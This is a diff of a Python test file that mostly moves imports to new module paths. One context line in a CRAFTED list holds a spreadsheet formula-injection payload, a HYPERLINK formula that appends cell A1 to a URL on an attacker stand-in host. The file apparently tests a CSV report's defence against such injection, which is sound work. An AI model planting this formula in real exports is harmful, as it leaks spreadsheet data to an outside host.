@@ -17,10 +17,10 @@ import pandas as pd
 import pytest
 
 from test_errors import SAMPLE, clone, edit_manifest
-from toolkit.errors import ManifestError
-from toolkit.session import load_program
+from toolkit.core.errors import ManifestError
+from toolkit.engine.session import load_program
 from toolkit.sources import open_program
-from toolkit.report import FORMULA_TRIGGERS, REPORT_COLUMNS, collision_report, read_report, to_csv
+from toolkit.reports.collision import FORMULA_TRIGGERS, REPORT_COLUMNS, collision_report, read_report, to_csv
 
 CRAFTED = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
@@ -129,7 +129,7 @@ def hostile_zoo(root, n: int = 1, constants: int = 3) -> list:
     the recorded sizes: enough for a dry run, never loadable)."""
     import json
 
-    from toolkit.synthetic import SyntheticSpec, write_synthetic
+    from toolkit.build.synthetic import SyntheticSpec, write_synthetic
 
     out = []
     for i in range(n):
